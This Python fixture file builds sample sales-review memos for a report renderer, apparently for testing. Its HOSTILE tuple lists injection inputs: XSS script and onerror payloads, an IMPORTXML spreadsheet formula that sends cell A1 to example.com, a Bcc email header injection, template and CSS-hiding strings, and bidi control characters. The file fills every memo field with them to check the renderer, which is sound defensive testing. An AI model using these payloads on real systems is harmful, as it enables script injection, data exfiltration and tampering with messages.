"""Memos typed by hand: a usual one that pictures are taken of, and one whose every field is hostile."""

from __future__ import annotations

from dataclasses import replace

from sheetsync.core.lang import Lang
from sheetsync.core.memo import Block, Course, Figure, Line, Memo, Place, Step, Table, Trend, Waterfall

URL = "https://docs.google.com/spreadsheets/d/4711/edit#gid=8&range="
HOSTILE = (
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    '=IMPORTXML("https://example.com/"&A1, "//a")',
    "$x^{$",
    "\u202eThe other way round\u2066",
    "long " * 2000,
    "W" * 10_000,
    "\U0001f4a9\U0001f468\u200d\U0001f469\u200d\U0001f467 emoji",
    "two\r\nlines\n\n\nBcc: everybody@example.com",
    "{{ memo.subject }}{% raw %}",
    "</td></tr></table></style><style>*{display:none}",
    "half a letter \ud83d, a bell \x07, nothing \x00",
)


def line(label: str, value: str, note: str = "", bar: int = 0, *, minus: bool = False, cell: str = "B7") -> Line:
    return Line(label, value, note, bar, minus=minus, key="funnel.leads", place=place(cell))


def place(cell: str) -> Place:
    return Place("Funnel", cell, URL + cell)


def usual(lang: Lang = "en") -> Memo:
    """What a company's memo may look like, with every block filled."""
    shares = [("Impressions", "90,000", "", 0), ("Lead", "560", "", 100), ("Target", "168", "30% (168 of 560)", 30)]
    question = line(
        "In VK ads 53% of the leads (62 of 118, 44–61%) are non-target. What changed?", "−$254 k at stake", "Q-4711"
    )
    names = ("Enterprise", "Mid-size business", "Small business", "Total")
    rows = ("Leads", "Won", "Revenue, $", "ROMI")
    segments = [
        (Figure(name), *(Figure(text, "funnel.leads", place("C9")) for text in ("177", "18", "5.25 M", "−18%")))
        for name in names
    ]
    return Memo(
        lang=lang,
        subject="Review 25 Nov: 70% of plan",
        title="Sales & marketing review · October 2026",
        as_of="October 2026 · as of 23 Nov 2026 · 1,204 rows used, 12 left out",
        answer="October closed at $3.37 M of $4.80 M (70%). Of the gap of −$1.43 M, −$0.71 M lies in what came in.",
        untrusted=False,
        cards=tuple(line(name, "$3.37 M", "18 of 70") for name in ("Revenue", "Leads", "Target", "Won", "CAC")),
        gap=Block(
            "Plan → fact",
            (
                line("Plan", "$4.80 M", bar=100),
                line("Share of target leads", "−$1.43 M", bar=60, minus=True),
                line("Fact", "$3.37 M", bar=70),
            ),
        ),
        forecast="By 30 Nov, if nothing changes: $3.09 M.",
        questions=(Block("For marketing", (question, question)), Block("For sales", (question,))),
        funnel=Block("Funnel", tuple(line(*each) for each in shares), "Leads created in the period."),
        non_target=Block("Why not target", (line("Budget", "32% (808 of 2,537)", "562 alone", 50),)),
        losses=Block("Why leads are lost", (line("No answer", "27% (152 of 554)", "≤ $566 k", 40),)),
        segments=Table(
            "Segments", ("Segment", *rows), tuple(segments), ("funnel.leads",) * 4, "The rest is elsewhere."
        ),
        changes=Block("What has changed", (line("CPL", "−$688", "was $3,218, is $2,530"),), "Compared: two windows."),
        hypotheses=Block("Hypotheses", (line("H1. Calling within a day", "running", "+0.0 pp"),)),
        relation=Block("Relation", (line("Agree", "91% (2,036 of 2,236)", "90–92%"),)),
        data=Block("How far to trust", (line("“soon” is no date. Counted as blank.", "Leads!B1761"),), "1,216 rows."),
        footer="Computed from funnel.xlsx as of 23 Nov 2026.",
        waterfall=waterfall(),
        trend=trend(),
    )


def waterfall(label: str = "Target leads", text: str = "−1.43 M") -> Waterfall:
    plan, fact = (Step(name, value, f"{value} M", total=True) for name, value in (("Plan", 4.8), ("Fact", 3.37)))
    return Waterfall(f"From $4.80 M to $3.37 M: {label}", (plan, Step(label, -1.43, text), fact))


def trend(label: str = "Target share", text: str = "30%") -> Trend:
    courses = (Course(label, (0.4, None, 0.35, 0.3), text), Course("Won", (0.2, 0.18, 0.17, None), "17%"))
    return Trend(f"{label}: 40% → 30%", ("1 Sep", "1 Oct", "1 Nov", "now"), courses)


def untrusted() -> Memo:
    """Too many errors to say whose part is what."""
    told = Line("Entries of sales are below the agreed quality.", "")
    memo = usual()
    return replace(memo, untrusted=True, data=replace(memo.data, lines=(told, *memo.data.lines)))


def bare() -> Memo:
    """Nothing can be told."""
    memo = usual()
    empty = Block("Nothing", text="There is nothing to tell yet.")
    return replace(
        memo,
        cards=(Line("Revenue", "–", "no deals yet"),),
        gap=empty,
        forecast="",
        questions=(empty, empty),
        funnel=empty,
        non_target=empty,
        losses=empty,
        segments=Table("Segments", ("Segment",), ()),
        changes=empty,
        hypotheses=empty,
        relation=empty,
        waterfall=None,
        trend=None,
    )


def hostile(text: str) -> Memo:
    """The same text in every field that can hold what people typed."""
    bad = Line(text, text, text, 40, place=Place(text, "B7", URL + "B7"))
    block = Block(text, (bad, bad), text)
    return replace(
        usual(),
        subject=text,
        title=text,
        as_of=text,
        answer=text,
        cards=(bad, bad),
        gap=block,
        forecast=text,
        questions=(block, block),
        funnel=block,
        non_target=block,
        losses=block,
        segments=Table(text, (text, text), ((Figure(text), Figure(text)),), ("",), text),
        changes=block,
        hypotheses=block,
        relation=block,
        data=block,
        footer=text,
        waterfall=waterfall(text, text),
        trend=trend(text, text),
    )
